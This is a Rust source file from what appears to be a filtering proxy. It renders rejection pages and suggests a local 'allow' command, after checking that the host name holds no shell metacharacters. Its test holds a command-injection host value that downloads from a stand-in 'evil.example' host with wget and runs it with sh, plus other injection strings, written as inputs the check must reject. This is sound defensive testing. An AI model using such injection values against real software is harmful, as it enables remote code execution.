//! What a client gets that is not served: a rejected request, or what is not HTTP at all. Of the
//! latter nothing is known but the reason, because hyper has thrown it away; the page, the fields
//! and the access line are those of every refusal. Called by the connection, and by `proxy` for
//! clients that it turns away.

use std::io;

use bytes::Bytes;
use http::Response;
use http::header::PROXY_AUTHENTICATE;
use tokio::io::{AsyncWrite, AsyncWriteExt};

use super::encode;
use super::exchange::Exchange;
use super::reply::Rejection;
use super::respond::{self, PageFormat};
use super::session::Session;
use crate::error::Error;
use crate::flow::Protocol;
use crate::verdict::Judgement;

/// Renders a rejection as a response and records it.
pub(crate) fn reject(
    session: &Session,
    rejection: &Rejection,
    exchange: &mut Exchange,
    format: PageFormat,
) -> Response<Bytes> {
    let mut response = match rejection {
        Rejection::Judged(judgement) => {
            let way_out = way_out(session, judgement, exchange);
            let host = exchange.target().map_or("", |target| target.host());
            respond::judgement(judgement, host, exchange.protocol(), format, way_out)
        }
        Rejection::Failed(error) => {
            exchange.fail(error);
            let mut response = respond::error(error, format);
            if let (Error::Unauthenticated(_), Some(gate)) = (error, &session.worker.gate) {
                let headers = response.headers_mut();
                headers.insert(PROXY_AUTHENTICATE, gate.challenge());
            }
            response
        }
    };
    if exchange.protocol() == Protocol::Connect {
        // What was sent ahead is meant for the origin: nothing more is read (RFC 9931, section 8).
        respond::close(&mut response);
    }
    exchange.record_status(response.status());
    response
}

/// The command by which a person on this machine lets a host pass that a filter has refused.
fn way_out(session: &Session, judgement: &Judgement, exchange: &Exchange) -> Option<String> {
    let is_here = session.arrival.is_local();
    let host = exchange.target()?.host();
    let is_by_filter = judgement.filter.is_some() && !judgement.failed;
    let command = &session.worker.command;
    (is_here && is_by_filter && is_plain(host)).then(|| format!("{command} allow {host} --for 1h"))
}

/// Whether a host means nothing else to a shell. A page must not offer a person a command that a
/// stranger has put together.
fn is_plain(host: &str) -> bool {
    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b".-_:".contains(&byte);
    host.bytes().all(is_plain) && !host.starts_with('-')
}

/// The answer to a client whose connection is not served. It is not recorded.
pub(crate) fn unserved(why: &Error) -> Vec<u8> {
    encode::response(&respond::error(why, PageFormat::Text))
}

/// Tells a client why it is not understood. Its connection is closed afterwards.
pub(crate) async fn answer(
    session: &Session,
    error: Error,
    stream: &mut (impl AsyncWrite + Unpin),
) -> io::Result<()> {
    let started = session.deadlines.begin_exchange();
    let mut exchange = session.exchange(started, None, Protocol::Http);
    let rejection = Rejection::Failed(error);
    let response = reject(session, &rejection, &mut exchange, PageFormat::Text);
    stream.write_all(&encode::response(&response)).await?;
    exchange.add_bytes_down(response.body().len() as u64);
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::is_plain;
    use crate::target::canonical_host;

    #[test]
    fn a_host_that_means_something_to_a_shell_is_not_offered() {
        for host in [
            "a.example",
            "xn--bcher-kva.example",
            "10.0.0.1",
            "2001:db8::1",
            "_a.b",
        ] {
            assert!(is_plain(host), "{host}");
        }
        let hostile = "a;wget$ifs$9evil.example;sh$ifs$9x.evil.example";
        assert_eq!(
            canonical_host(hostile).as_deref(),
            Ok(hostile),
            "it is a host"
        );
        for host in [
            hostile,
            "-rf.example",
            "$(a)",
            "a&b",
            "`a`",
            "a'b",
            "a\"b",
            "*",
        ] {
            assert!(!is_plain(host), "{host}");
        }
    }
}
